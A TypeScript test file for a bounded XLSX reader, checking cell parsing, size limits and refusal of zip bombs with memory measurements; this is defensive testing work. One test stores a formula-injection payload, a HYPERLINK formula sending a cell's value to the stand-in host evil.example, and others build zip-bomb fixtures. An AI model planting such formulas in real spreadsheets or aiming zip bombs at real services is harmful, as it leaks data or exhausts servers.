/**
 * The bounded XLSX reader: what it makes of the cells Excel and exceljs write,
 * and how it refuses a file beyond its limits (zip bombs included) without
 * the memory growing with what the file inflates to.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readXlsxRows, XLSX_LIMITS, XlsxLimitError, type XlsxLimits, type XlsxRow } from './workbook.js';
import { repeated, writeXlsx, writeZip } from './xlsx.testkit.js';

const MB = 1024 * 1024;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sb-xlsx-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

async function rows(file: string, limits: Partial<XlsxLimits> = {}): Promise<XlsxRow[]> {
  const out: XlsxRow[] = [];
  for await (const row of readXlsxRows(file, { ...XLSX_LIMITS, ...limits })) out.push(row);
  return out;
}

async function refusal(file: string, limits: Partial<XlsxLimits> = {}): Promise<Error> {
  try {
    await rows(file, limits);
  } catch (error) {
    return error as Error;
  }
  throw new Error(`${file} was read`);
}

/** Runs fn while sampling the resident set; returns the peak growth over the start, in MB. */
async function peakGrowth(fn: () => Promise<unknown>): Promise<number> {
  const start = process.memoryUsage().rss;
  let peak = start;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
  try {
    await fn();
  } finally {
    clearInterval(timer);
  }
  return (Math.max(peak, process.memoryUsage().rss) - start) / MB;
}

describe('the bounded XLSX reader', () => {
  it('reads what exceljs writes: text, numbers as typed, booleans, rich text, formula results, CJK across chunks', async () => {
    const file = path.join(tmp, 'cells.xlsx');
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('samples');
    workbook.addWorksheet('other').addRow(['not read']);
    const long = '月壤'.repeat(10_000); // 60 KB of UTF-8: several inflated chunks, cut mid-character
    sheet.addRow(['ID', 'Kind', 'Q', 'Note']);
    sheet.addRow(['CE5C0400,0012', 'scooped', 0.0000001, 'a & b <c> "d"']);
    sheet.addRow([]);
    sheet.addRow(['X2', true, 1e21, { richText: [{ text: 'rich ' }, { text: 'text' }] }]);
    sheet.getCell('F5').value = { formula: 'A1&"x"', result: 'IDx' };
    sheet.getCell('A6').value = long;
    await workbook.xlsx.writeFile(file);
    expect(await rows(file)).toEqual([
      { number: 1, cells: ['ID', 'Kind', 'Q', 'Note'] },
      { number: 2, cells: ['CE5C0400,0012', 'scooped', '0.0000001', 'a & b <c> "d"'] },
      { number: 4, cells: ['X2', 'true', '1000000000000000000000', 'rich text'] },
      { number: 5, cells: ['', '', '', '', '', 'IDx'] },
      { number: 6, cells: [long] },
    ]);
  });

  it('reads the inline strings of exceljs’s streaming writer (what the export writes)', async () => {
    const file = path.join(tmp, 'stream.xlsx');
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: file, useSharedStrings: false, useStyles: false });
    const sheet = workbook.addWorksheet('samples');
    sheet.addRow(['identifier', 'quantity']).commit();
    sheet.addRow(['=HYPERLINK("http://evil.example/?"&A2,"x")', '10.125']).commit();
    sheet.commit();
    await workbook.commit();
    expect(await rows(file)).toEqual([
      { number: 1, cells: ['identifier', 'quantity'] },
      { number: 2, cells: ['=HYPERLINK("http://evil.example/?"&A2,"x")', '10.125'] },
    ]);
  });

  it('refuses rows, columns, cells, rows of text and shared strings beyond the limits, saying which', async () => {
    const file = path.join(tmp, 'limits.xlsx');
    const cell = (ref: string, index: number) => `<c r="${ref}" t="s"><v>${index}</v></c>`;
    await writeXlsx(file, {
      strings: ['<si><t>identifier</t></si>', `<si><t>${'x'.repeat(500)}</t></si>`, '<si><r><t>a</t></r><r><t>b</t></r><rPh><t>phonetic</t></rPh></si>'],
      sheetData: ['<row r="1">', cell('A1', 0), cell('B1', 2), '<c r="C1" t="inlineStr"><is><r><t>in</t></r><r><t>line</t></r><rPh><t>no</t></rPh></is></c>', '</row>', ...Array.from({ length: 20 }, (_, i) => `<row r="${i + 2}">${cell(`A${i + 2}`, 1)}${cell(`C${i + 2}`, 1)}</row>`)],
    });
    const all = await rows(file);
    expect(all[0]!.cells).toEqual(['identifier', 'ab', 'inline']);
    expect(all).toHaveLength(21);
    const limit = async (limits: Partial<XlsxLimits>) => {
      const error = await refusal(file, limits);
      expect(error).toBeInstanceOf(XlsxLimitError);
      return error as XlsxLimitError;
    };
    expect((await limit({ rows: 10 })).message).toBe('The spreadsheet has more than 10 rows; split it into smaller files');
    expect((await limit({ columns: 2 })).limit).toBe('columns');
    expect((await limit({ cellChars: 499 })).limit).toBe('cellChars');
    expect((await limit({ rowChars: 999 })).limit).toBe('rowChars');
    expect((await limit({ rowChars: 15 })).message).toBe('Row 1 of the spreadsheet holds more than 15 characters; shorten it or split it across rows');
    expect((await limit({ sharedStrings: 2 })).limit).toBe('sharedStrings');
    expect((await limit({ sharedStringsBytes: 100 })).message).toBe('The text of the spreadsheet expands to more than 0 MB; split it into smaller files, or save it as CSV');
    expect((await limit({ totalBytes: 1000 })).limit).toBe('totalBytes');
  });

  it('counts the text of a row that never ends while it grows', async () => {
    const file = path.join(tmp, 'endless-row.xlsx');
    await writeXlsx(file, { sheetData: ['<row r="1">', ...repeated(`<c t="inlineStr"><is><t>${'x'.repeat(1000)}</t></is></c>`, 20_000)] });
    const error = await refusal(file);
    expect(error).toBeInstanceOf(XlsxLimitError);
    expect(error.message).toBe('Row 1 of the spreadsheet holds more than 1,048,576 characters; shorten it or split it across rows');
  });

  describe('zip bombs: a shared-string table of 300 MB of repeated text in a file of a few hundred KB', () => {
    const honest = path.join(tmp, 'bomb.xlsx');
    const lying = path.join(tmp, 'lying-bomb.xlsx');
    const oneString = path.join(tmp, 'one-string-bomb.xlsx');
    const si = `<si><t>${'A'.repeat(1000)}</t></si>`;
    const count = Math.ceil((300 * MB) / si.length);
    const sheetData = ['<row r="1"><c r="A1" t="s"><v>0</v></c></row>'];
    beforeAll(async () => {
      await writeXlsx(honest, { strings: repeated(si, count), sheetData });
      // The same, claiming its table inflates to just under the limit: only inflating tells the truth.
      await writeXlsx(lying, { strings: repeated(si, count), sheetData, declaredStrings: XLSX_LIMITS.sharedStringsBytes - 1 });
      await writeXlsx(oneString, { strings: ['<si><t>', ...repeated('B'.repeat(1000), 300 * 1024), '</t></si>'], sheetData, declaredStrings: MB });
    }, 120_000);

    it('is a small file', () => {
      expect(fs.statSync(honest).size).toBeLessThan(2 * MB);
      expect(fs.statSync(lying).size).toBeLessThan(2 * MB);
    });

    it('is refused from what it declares, before anything is inflated', async () => {
      let error: Error | undefined;
      const growth = await peakGrowth(async () => (error = await refusal(honest)));
      expect(error).toBeInstanceOf(XlsxLimitError);
      expect(error!.message).toBe('The text of the spreadsheet expands to more than 64 MB; split it into smaller files, or save it as CSV');
      expect(growth).toBeLessThan(20);
    });

    it('is refused when it lies about its size, with memory bounded by the limit and not by the file', async () => {
      let error: Error | undefined;
      const growth = await peakGrowth(async () => (error = await refusal(lying)));
      expect(error).not.toBeInstanceOf(XlsxLimitError);
      expect(error!.message).toMatch(/xl\/sharedStrings\.xml inflates to more than the 67108863 bytes it declares/);
      console.info(`lying 300 MB shared-string bomb: refused, peak RSS growth ${growth.toFixed(1)} MB`);
      expect(growth).toBeLessThan(150);
    }, 60_000);

    it('never holds a 300 MB text node: refused at the longest cell', async () => {
      let error: Error | undefined;
      const growth = await peakGrowth(async () => (error = await refusal(oneString)));
      expect((error as XlsxLimitError).limit).toBe('cellChars');
      expect(growth).toBeLessThan(50);
    });
  });

  it('refuses what is not a spreadsheet, and a sheet that lies about its size', async () => {
    const csv = path.join(tmp, 'not.xlsx');
    fs.writeFileSync(csv, 'ID,K,Q\nA,x,1\n');
    expect((await refusal(csv)).message).toMatch(/not a ZIP file/);
    const lying = path.join(tmp, 'lying-sheet.xlsx');
    await writeXlsx(lying, { sheetData: repeated('<row><c t="inlineStr"><is><t>x</t></is></c></row>', 100_000), declaredSheet: 1000 });
    expect((await refusal(lying)).message).toMatch(/sheet1\.xml inflates to more than the 1000 bytes it declares/);
    const empty = path.join(tmp, 'empty.zip');
    await writeZip(empty, [{ name: 'hello.txt', content: ['hello'] }]);
    expect((await refusal(empty)).message).toMatch(/no workbook/);
  });
});
